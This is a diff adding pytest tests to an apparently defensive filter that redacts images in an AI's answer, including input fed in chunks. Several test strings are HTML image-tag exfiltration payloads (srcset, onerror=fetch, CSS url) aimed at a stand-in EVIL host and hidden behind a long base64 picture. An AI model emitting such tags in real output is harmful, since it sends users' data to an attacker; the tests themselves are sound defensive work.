@@ -41,6 +41,15 @@ def read(text: str, answers: Answers = Answers(), request: Asked = NOTHING) -> t
     return one.text(text), one.counts
 
 
+def in_pieces(text: str, size: int) -> tuple[str, dict[str, int]]:
+    """As `read`; a size of 0 is all at once."""
+    one = reading()
+    texts = one.open()
+    step = size or len(text)
+    said = "".join(texts.push(text[at : at + step]) for at in range(0, len(text), step))
+    return said + texts.flush(), one.counts
+
+
 def passes(text: str, request: Asked = NOTHING) -> None:
     assert read(text, request=request) == (text, {})
 
@@ -245,6 +254,47 @@ def test_an_image_that_may_carry_something_away_is_taken_out(text: str) -> None:
     said, counts = read(text)
     assert "[IMAGE_REDACTED]" in said
     assert any(kind.startswith("answer.image.") for kind in counts)
+
+
+PICTURE = base64.b64encode(random.Random(3).randbytes(9_000)).decode()
+
+
+@pytest.mark.parametrize("size", [0, 1, 7, 4_000])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a <img src='data:image/png;base64,{}'> b",
+        'a <img width=10 alt="a > b" src="data:image/jpeg;base64,{}" class="x y"/> b <img src="data:image/gif;base64,{}"> c',
+        'a <img src="data:image/png;base64,{}',
+        "![x](data:image/png;base64,{}) b",
+    ],
+)
+def test_a_picture_that_is_in_the_answer_itself_stays_whatever_its_length(text: str, size: int) -> None:
+    whole = text.replace("{}", PICTURE)
+    assert in_pieces(whole, size) == (whole, {})
+
+
+@pytest.mark.parametrize("size", [0, 1, 7, 4_000])
+@pytest.mark.parametrize(
+    "rest",
+    [
+        f"\" srcset='{EVIL}/p?d=1'> b",
+        f"\" onerror=fetch('{EVIL}/?d=1')> b",
+        f"'\" style='background:url({EVIL}/p?d=1)' alt=x> b",
+        f"\" alt='{' '.join(f'x{n}y' for n in range(999))}' srcset='{EVIL}/p?d=1'> b",
+        f"\n\" srcset='{EVIL}/p?d=1",
+    ],
+)
+def test_what_a_tag_says_behind_its_picture_is_judged_with_it(rest: str, size: int) -> None:
+    said, counts = in_pieces(f'a <img src="data:image/png;base64,{PICTURE}{rest}', size)
+    assert "[IMAGE_REDACTED]" in said
+    assert read(said.replace(PICTURE, "").replace("[IMAGE_REDACTED]", ""))[1] in ({}, {"answer.image.overlong": 1})
+    assert sum(counts.values()) == 1
+
+
+@pytest.mark.parametrize("kind", ["image/svg+xml", "text/html", "image/png,x"])
+def test_what_is_no_mere_picture_is_no_longer_than_another_tag(kind: str) -> None:
+    assert "[IMAGE_REDACTED]" in read(f"<img src='data:{kind};base64,{PICTURE}'>")[0]
 
 
 def test_a_tag_that_goes_on_for_too_long_is_no_tag_any_more() -> None:
